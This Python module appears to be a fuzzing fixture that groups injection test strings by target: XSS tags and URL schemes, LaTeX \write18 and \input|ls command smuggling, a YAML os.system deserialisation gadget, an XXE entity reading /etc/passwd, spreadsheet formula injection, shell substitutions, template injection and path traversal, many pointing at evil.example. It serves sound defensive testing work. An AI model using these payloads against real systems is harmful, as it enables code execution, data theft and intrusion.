r"""Strings that try to be more than text wherever they are put.

What they would make can be recognised: an element ``xinj``, an attribute or key ``xinj``, a script that calls
``alert``, a request to ``evil.example``. `STRINGS` has all of them, by what they aim at.
"""

from __future__ import annotations

CODE = "alert(1)"

_ELEMENTS = [
    "<xinj>", "</p><xinj x=1>", "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>", "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x", "<math><mtext></p><img src onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>", "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=javascript:alert(1)>",
    "<embed src=//evil.example/x.swf>", "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>*{background:url(//evil.example/a)}</style>", "<form action=//evil.example><input name=xinj>",
    "<button formaction=javascript:alert(1)>x", "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>", "<body onload=alert(1)>", "<marquee onstart=alert(1)>",
    "<textarea><xinj>", "</textarea><xinj>", "</title><xinj>", "</style><xinj>", "</script><xinj>",
    "</script ><script>alert(1)//", "<!--<script>", "--><xinj>", "<!-- --!><xinj>",
    "<![CDATA[<xinj>]]>", "]]><xinj>", "<?xinj ?>", "<!DOCTYPE xinj>", "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>", "<a name=xinj id=xinj class=xinj>",
    "<p style=background:url(//evil.example)>", "<template><xinj></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<table><td><xinj>",
    "<xmp><xinj></xmp>",
    "<plaintext>", "<select><xinj></select>", "<<xinj>>", "<xinj", "< xinj>",
    "<\x00script>alert(1)</script>", "<img src=`x` onerror=alert(1)>",
    "<a\x0chref=javascript:alert(1)>x</a>",
    "<jats:xinj>", "<jats:p onclick=alert(1)>x</jats:p>", "<i onclick=alert(1)>x</i>", "<sub><xinj></sub>",
    "<sup onmouseover=alert(1)>2</sup>", "<mml:math><mml:mi xinj=1>x</mml:mi></mml:math>",
    "<b>bold</b>", "<span class=xinj>x</span>", "<em style=xinj>x</em>", "<h1>xinj</h1>", "<hr>", "<br/>",
    "<p>", "<div id=main>", "<dialog open>x</dialog>", "<x-xinj is=xinj>",
]  # fmt: skip

_ATTRIBUTES = [
    '" xinj="1', "' xinj='1", '"><xinj>', "'><xinj>", '" onmouseover="alert(1)', "' onmouseover='alert(1)",
    '" autofocus onfocus=alert(1) x="', "x onclick=alert(1)",
    "` onclick=alert(1)", '" style="background:url(//evil.example)', '" class="xinj', '" id="xinj',
    '" href="javascript:alert(1)', '" src="//evil.example/a.png', '"/><xinj', "\\\" xinj=\\\"1",
    "&quot; xinj=&quot;1", "&#34; xinj=&#34;1", "&#x22;&#x3e;&#x3c;xinj&#x3e;", "&lt;xinj&gt;",
    "&amp;lt;xinj&amp;gt;", "&lt;script&gt;alert(1)&lt;/script&gt;", "\u201c\u201d\u2018\u2019 xinj=1",
    "\uff1cxinj\uff1e",
    "\u2039xinj\u203a", "\u02bc xinj=\u02bc1", "\uff02 xinj=\uff021", '"\n xinj="1', '"\t xinj="1',
    "\"/xinj=\"1",
]  # fmt: skip

_SCHEMES = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "\x01javascript:alert(1)",
    "java\tscript:alert(1)", "java\nscript:alert(1)", "java\rscript:alert(1)", "javascript\t:alert(1)",
    "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "&#x6A&#x61vascript:alert(1)",
    "&#0000106avascript:alert(1)", "java&Tab;script:alert(1)", "java&NewLine;script:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)", "java%0ascript:alert(1)", "%6aavascript:alert(1)", "javascript%3aalert(1)",
    "javascript://evil.example/%0aalert(1)", "javascript:void(0)", "javascript\u200b:alert(1)",
    "\u200bjavascript:alert(1)",
    "\u202ejavascript:alert(1)", "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "blob:https://evil.example/1", "file:///etc/passwd", "ftp://evil.example/", "about:blank",
    "view-source:x", "ws://evil.example", "intent://evil.example", "tel:+1",
    "mailto:a@b.example?bcc=x%0d%0aSubject:xinj",
    "mailto:\"<xinj>\"@b.example", "//evil.example/x", "\\\\evil.example\\x", "/\\evil.example",
    "/%5cevil.example", "https:evil.example", "https:///evil.example", "https:\\\\evil.example",
    "http://[::1", "https://a@evil.example:x/",
    "https://evil.example/\"><xinj>", "https://evil.example/' onclick='alert(1)", "https://evil.example/`",
    "https://evil.example/\n\nxinj: 1", "https://evil.example/{xinj}", "https://evil.example/%",
    "https://evil.example/%ff%00",
    "https://evil.example/#</script><xinj>", "https://\u0435vil.example/", "https://evil.example\u2044x",
    "https://ex\u00adample.org/", "http://evil.example:80:80/", "HTTPS://EVIL.EXAMPLE/",
    "jar:https://evil.example!/x", "x-javascript:alert(1)",
    "livescript:alert(1)", "mocha:alert(1)", "chrome://xinj", "ms-msdt:x",
]  # fmt: skip

_JSON = [
    '","xinj":"1', '"],"xinj":["1', '"}},{"xinj":"1', "\\", "\\\\", '\\","xinj":"1',
    "\\u0022,\\u0022xinj\\u0022:1", "\u2028", "\u2029", "a\u2028b\u2029c", "</script>", "<!--", "\\ud800",
    "\\udfff\\ud800", "\\u0000", "\\u003c/script\\u003e",
    "{\"@type\":\"xinj\"}", "null", "true", "NaN", "Infinity", "1e999", "-0", "[]", "{}", '"', "'",
    "'-alert(1)-'", '"-alert(1)-"', "');alert(1)//", '");alert(1)//', "`${alert(1)}`", "*/alert(1)/*", "//",
    "\\x3cxinj\\x3e", "__proto__", "constructor",
]  # fmt: skip

_BIBTEX = [
    "}", "{", "}}", "{{", "},\n xinj = {1", "}}\n@article{xinj, title={xinj}}\n", "\"\n@book{xinj,}", "@",
    "@article{xinj,", "@comment{", "@string{xinj=\"1\"}", "@preamble{\"xinj\"}", "%", "% comment", "\\%",
    "#", " # xinj # ", ",", "=", "x = {y}",
    "\\write18{touch xinj}", "\\input{/etc/passwd}", "\\input|ls", "\\include{xinj}", "\\openin5=xinj",
    "\\immediate\\write18{xinj}", "\\catcode`\\@=0", "\\def\\xinj{1}", "\\newcommand{\\xinj}{1}",
    "\\csname xinj\\endcsname", "\\url{javascript:alert(1)}",
    "\\href{javascript:alert(1)}{x}", "\\href{https://evil.example}{\"><xinj>}", "\\verb|xinj|",
    "\\end{document}", "\\begin{xinj}", "$", "$$", "$x", "$<xinj>$", "$\\text{<xinj>}$",
    "$\\href{javascript:alert(1)}{x}$", "$x^{\\xinj}$", "\\(<xinj>\\)",
    "\\(\\text{</script>}\\)", "\\[x\\]", "\\symbol{8238}", "\\symbol{60}xinj\\symbol{62}", "\\symbol{0}",
    "\\char60xinj\\char62", "^^3cxinj^^3e", "\\textless xinj\\textgreater", "\\{", "\\}", "\\\"", "\\'",
    "\\`{", "~", "_", "^", "&", "\\&", "\\\\",
    "and others", "xinj and xinj", "a and b and c", "Doe, Jr., Xinj, More, Commas", "{\\relax}", "{\\it x",
    "\\emph{<xinj>}", "{\\bf }", "\\noopsort{x}", "--", "---", "``x''", "\\ss\\o\\L", "\\unskip\\par",
    "\\par\n\n\\par",
]  # fmt: skip

_LINES = [
    "\nER  - \nTY  - JOUR\nTI  - xinj\nER  - ", "\r\nTY  - JOUR\r\n", "TY  - JOUR", "ER  - ",
    "\nKW  - xinj", "\nTI  - xinj", "\n%0 Journal Article\n%T xinj", "\nPMID- 1\nTI  - xinj",
    "\nRT Journal\nT1 xinj", "\nPT J\nTI xinj\nER", "\n\n\n", "\r", "\x0b", "\x0c", "\x85",
    "\n</entry><entry><title>xinj</title>", "</title><xinj/>", "<entry/>", "]]></title><xinj/><![CDATA[",
    "&xinj;", "&", "&#0;", "&#1;", "&#x1f;", "&#8238;", "&#x202e;", "&#8203;", "&shy;", "&lrm;", "&rlm;",
    "&zwj;", "&zwnj;", "&#xfeff;", "&#xd800;", "&#1114112;", "&#99999999999;",
    "<!ENTITY xinj SYSTEM 'file:///etc/passwd'>", "<?xml version='1.0'?>", "=1+1",
    "=HYPERLINK(\"https://evil.example\")", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", "\t=1",
    "a,b;c\td", "\"a\",\"b\"", "\"\"", "1;2;3",
]  # fmt: skip

_TEMPLATES = [
    "{{ 7*7 }}", "{{ config }}", "{{ ''.__class__ }}", "{% raw %}", "{% endraw %}", "{% include 'xinj' %}",
    "{% block xinj %}", "{# xinj #}", "{{ '<xinj>'|safe }}", "{%", "%}", "{{", "}}", "${7*7}", "#{7*7}",
    "<%= 7*7 %>", "{0}", "{path}", "{x.__class__}", "%s", "%(x)s", "%n%n%n", "$HOME", "`id`",
    "$(id)", "; ls", "| ls", "&& ls", "{{< xinj >}}", "{{% xinj %}}", "{: .xinj onclick=alert(1)}",
    "{::options xinj /}", "{#xinj}", "{.xinj}", "[@xinj]", "[see @xinj, p. <xinj>]", "@{doi:10.1/x}",
    "[[xinj]]", "[[toc]]", "![[xinj.png]]",
]  # fmt: skip

_MARKDOWN = [
    "[x](javascript:alert(1))", "[x](<javascript:alert(1)>)", "[x](&#x6A;avascript:alert(1))",
    "[x](&#x6A&#x61vascript:alert(1))", "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)", "![x](//evil.example/a.png)",
    "![x](https://evil.example/a.png)", "![x\"onerror=\"alert(1)](images/a.png)",
    "![x](images/a.png \"t\" onerror=alert(1))", "[x](images/a.png 'a\" onclick=\"alert(1)')",
    "<javascript:alert(1)>", "<https://evil.example/\"onclick=alert(1)>",
    "[x][y]\n\n[y]: javascript:alert(1)", "[x]: javascript:alert(1) 'y'", "[x](../../../../etc/passwd)",
    "![x](../site.yml)", "![x](images/../../secret.png)", "[x](files/%2e%2e/%2e%2e/x)",
    "```xinj onclick=alert(1)\nx\n```", "```\"><xinj>\nx\n```", "~~~html\n<xinj>\n~~~",
    "```embed\njavascript:alert(1)\n```", "```embed\nhttps://evil.example/\"><xinj>\n```",
    "```embed\nhttps://www.youtube.com/watch?v=\"><xinj>\n```", "```papers\ntype: <xinj>\n```",
    "    <xinj>", "| <xinj> |\n|--|\n| <img src=x onerror=alert(1)> |",
    "> [!NOTE]\n> <xinj>", "> [!<xinj>]\n> x", "::: {.callout-note onclick=alert(1)}\nx\n:::",
    "!!! note \"<xinj>\"\n    x", "[^xinj]\n\n[^xinj]: <xinj>", "# <xinj> {#xinj onclick=alert(1)}",
    "<xinj>\n: x", "- [ ] <xinj>", "*x*_y_**z**", "H~<xinj>~", "`<xinj>`", "$<xinj>$",
    "$$\n</math><xinj>\n$$",
    ":tada:", ":<xinj>:", "www.evil.example", "evil@evil.example", "\\<xinj\\>", "---\ntitle: xinj\n---",
    "***", "1. x\n2. y", "* x", "=====", "-----",
]  # fmt: skip

_YAML = [
    ": xinj", "- xinj", "? xinj", "!!python/object/apply:os.system ['id']", "!xinj x", "&xinj x", "*xinj",
    "<<: *xinj", "| xinj", "> xinj", "%YAML 1.1", "--- xinj", "...", "yes", "no", "null", "~", "0x1F",
    "012", "1e3", "12:30", "2409.01369", "\\x1b[31m", "\\u202e", "\\0", "'", "''", "\"", "[", "]", "{a: b",
    "# xinj", " x", "x: y: z",
]  # fmt: skip

_PATHS = [
    "../", "../../../../etc/passwd", "..\\..\\windows", "/etc/passwd", "C:\\xinj", "c:xinj",
    "\\\\host\\share", "~/xinj", ".", "..", "...", "a/../../b", "a//b", "a/./b", "%2e%2e%2f", "..%00",
    "con", "CON.txt", "aux.html", "nul.bib", "prn", "com1", "lpt9.tar.gz", "com\u00b9", "conin$",
    "trailing.", "trailing ", ".hidden", "-rf", "a:b", "a?b",
    "a*b", "a|b", "a<b>c", "a\"b", "a\\b", "index.html", "index", "page-2", "Index.HTML", "static",
    "search", ".well-known", "a#b", "a?x=1#y", "a%20b", "a%b", "a+b", "a&b", "a;b", "a'b", "$a", "a=b",
    "a,b", "a@b", "a!b", "a^b", "a`b", "{a}", "[a]", "(a)",
]  # fmt: skip

_UNICODE = [
    "\u202eabc\u202c", "\u2066abc\u2069", "\u200fabc", "\u200eabc", "\u061cabc", "a\u200bb", "a\u200cb",
    "a\u200db", "a\u2060b", "\ufeffabc", "a\u00adb", "\x1b[31mred\x1b[0m", "\x1b]0;xinj\x07",
    "\x1b]8;;https://evil.example\x07x\x1b]8;;\x07", "\x9b31m", "\x07", "\x08\x08\x08", "\x00", "\x7f",
    "\x80\x9f", "\ufffe", "\uffff", "\ufffd", "\ufff9a\ufffab\ufffb",
    "e\u0301", "\u00e9", "\u1e9b\u0323", "\u212b", "\uac00", "\u1100\u1161", "\u0061\u0308\u0323",
    "a" + "\u0301" * 300, "\u0430dmin", "\uff41\uff4c\uff45\uff52\uff54", "\u2024\u2025\u2026",
    "\u2215etc\u2215passwd", "\uff0e\uff0e\uff0f", "\u037e", "\u1680", "\u3000", "\u00a0", "\u2003x",
    "\u3164", "\u115f", "\U000e0041\U000e0042", "\U000e0001",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\U0001f1e9\U0001f1ea", "\u05d0\u05d1 abc \u05d2",
    "\u0645\u0631\u062d\u0628\u0627", "\u4f60\u597d", "\u0e01\u0e33",
    "\ud83d".encode("utf-16","surrogatepass").decode("utf-16","replace"), "\u0130\u0131", "\u00df\u1e9e",
    "\ufb01", "x" * 3000, "word " * 1500, "<" * 500, "&" * 500, "'" * 300, "a-" * 400,
]  # fmt: skip

KINDS: dict[str, list[str]] = {
    "elements": _ELEMENTS,
    "attributes": _ATTRIBUTES,
    "schemes": _SCHEMES,
    "json": _JSON,
    "bibtex": _BIBTEX,
    "lines": _LINES,
    "templates": _TEMPLATES,
    "markdown": _MARKDOWN,
    "yaml": _YAML,
    "paths": _PATHS,
    "unicode": _UNICODE,
}
"""By what they aim at."""

STRINGS: tuple[str, ...] = tuple(dict.fromkeys(text for texts in KINDS.values() for text in texts))
"""All of them, each once."""

ADDRESSES: tuple[str, ...] = (*_SCHEMES, *_PATHS)
"""Those that try to be an address or a path."""
